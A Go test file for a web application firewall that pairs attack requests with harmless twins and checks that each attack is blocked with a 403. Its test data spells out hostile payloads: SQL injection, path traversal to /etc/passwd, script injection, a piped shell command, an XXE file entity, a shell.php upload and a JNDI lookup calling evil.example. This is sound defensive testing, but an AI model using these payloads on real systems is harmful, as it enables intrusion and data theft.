package waf

import (
	"strings"
	"testing"

	"sallyport/internal/gate"
)

const formType = "application/x-www-form-urlencoded"

func multi(parts string) call {
	return post("multipart/form-data; boundary=b0undary", parts)
}

func field(name, value string) string {
	return "--b0undary\r\nContent-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + value + "\r\n"
}

func file(name, filename, content string) string {
	return "--b0undary\r\nContent-Disposition: form-data; name=\"" + name + "\"; filename=\"" + filename + "\"\r\nContent-Type: text/plain\r\n\r\n" + content + "\r\n"
}

const last = "--b0undary--\r\n"

// TestAttacksAndTwins sends an attack by every way into the engine, and beside
// each a harmless request of the same form.
func TestAttacksAndTwins(t *testing.T) {
	e := sharedEngine(t)
	for _, tc := range []struct {
		name          string
		attack, twin  call
		inspectedTwin string
	}{
		{"query", get("/?id=1'+UNION+SELECT+password+FROM+users--"), get("/?id=1&name=Anna+M%C3%BCller"), ""},
		{"a pattern that the engine's prefilter would skip", get("/?i=2.2250738585072011e-308"), get("/?i=2.25e-308"), ""},
		{"path", get("/../../../../etc/passwd"), get("/etc/hosts-and-guests"), ""},
		{"never fetched", get("/.git/config"), get("/git/config"), ""},
		{"form", post(formType, "c=<script>alert(1)</script>"), post(formType, "c=a+nice+comment"), "full"},
		{"form, chunked", call{method: "POST", target: "/", fields: browser("Content-Type", formType, "Transfer-Encoding", "chunked"), body: "c=<script>alert(1)</script>", chunked: true},
			call{method: "POST", target: "/", fields: browser("Content-Type", formType, "Transfer-Encoding", "chunked"), body: "c=hello", chunked: true}, "full"},
		{"json", post("application/json", `{"a":{"b":";cat /etc/passwd|sh"}}`), post("application/json", `{"a":{"b":"cats and dogs"}}`), "full"},
		{"json by suffix", post("application/vnd.api+json; charset=utf-8", `{"a":"<script>alert(1)</script>"}`), post("application/json; charset=utf-8", `{"a":[1,2,{"b":null}]}`), "full"},
		{"json, escaped", post("application/json", `{"a":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`), post("application/json", `{"a":"\u00e9t\u00e9"}`), "full"},
		{"xml", post("text/xml", `<?xml version="1.0"?><a><b>1' UNION SELECT password FROM users--</b></a>`), post("text/xml", `<?xml version="1.0"?><a><b>fine</b></a>`), "full"},
		{"xml entity", post("application/xml", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///tmp/x">]><a>&x;</a>`), post("application/xml", `<!DOCTYPE a><a>x</a>`), "full"},
		{"multipart field", multi(field("c", "<script>alert(1)</script>") + last), multi(field("c", "a nice comment") + last), "full"},
		{"multipart field after a file", multi(file("f", "a.txt", "x") + field("c", "<script>alert(1)</script>") + last), multi(file("f", "a.txt", "<script>alert(1)</script>") + field("c", "y") + last), "full"},
		{"file name", multi(file("f", "shell.php", "x") + last), multi(file("f", "holiday.jpg", "x") + last), "full"},
		{"an escape in the name of a part", multi(strings.Replace(file("f", "a.txt", "x"), `name="f"`, `name="c.p\d\f"`, 1) + last), multi(strings.Replace(file("f", "a.txt", "x"), `name="f"`, `name="c.pdf"`, 1) + last), "full"},
		{"header", get("/", "X-Api", "${jndi:ldap://evil.example/a}"), get("/", "X-Api", "v1"), ""},
		{"cookie", get("/", "Cookie", "a=1; b=<script>alert(1)</script>"), get("/", "Cookie", "a=1; b=2; sid=0123456789abcdef"), ""},
		{"user agent", call{method: "GET", target: "/", fields: []gate.Field{{Name: "Host", Value: "shop.example.org"}, {Name: "User-Agent", Value: "sqlmap/1.7"}, {Name: "Accept", Value: "*/*"}}}, get("/"), ""},
	} {
		a := run(e, tc.attack)
		a.expect(t, tc.name+" attack", gate.Refuse, gate.WAFInboundScore)
		if a.verdict.Status != 403 || a.result.Score < 5 || a.result.Threshold != 5 {
			t.Errorf("%s attack: status %d, score %d of %d, want 403 and at least 5 of 5", tc.name, a.verdict.Status, a.result.Score, a.result.Threshold)
		}
		b := run(e, tc.twin)
		b.expect(t, tc.name+" twin", gate.Pass, "")
		if b.result.Inspected != tc.inspectedTwin || b.result.Score != 0 {
			t.Errorf("%s twin: inspected %q, score %d, want %q and 0", tc.name, b.result.Inspected, b.result.Score, tc.inspectedTwin)
		}
		if b.passed != tc.twin.body {
			t.Errorf("%s twin: the backend read %q, want %q", tc.name, b.passed, tc.twin.body)
		}
		o := run(e, tc.attack.under("observe"))
		o.expect(t, tc.name+" observed", gate.Observe, gate.WAFInboundScore)
		if o.passed != tc.attack.body {
			t.Errorf("%s observed: the backend read %q, want %q", tc.name, o.passed, tc.attack.body)
		}
		if o.result.Score != a.result.Score {
			t.Errorf("%s observed: score %d, enforced %d", tc.name, o.result.Score, a.result.Score)
		}
	}
}
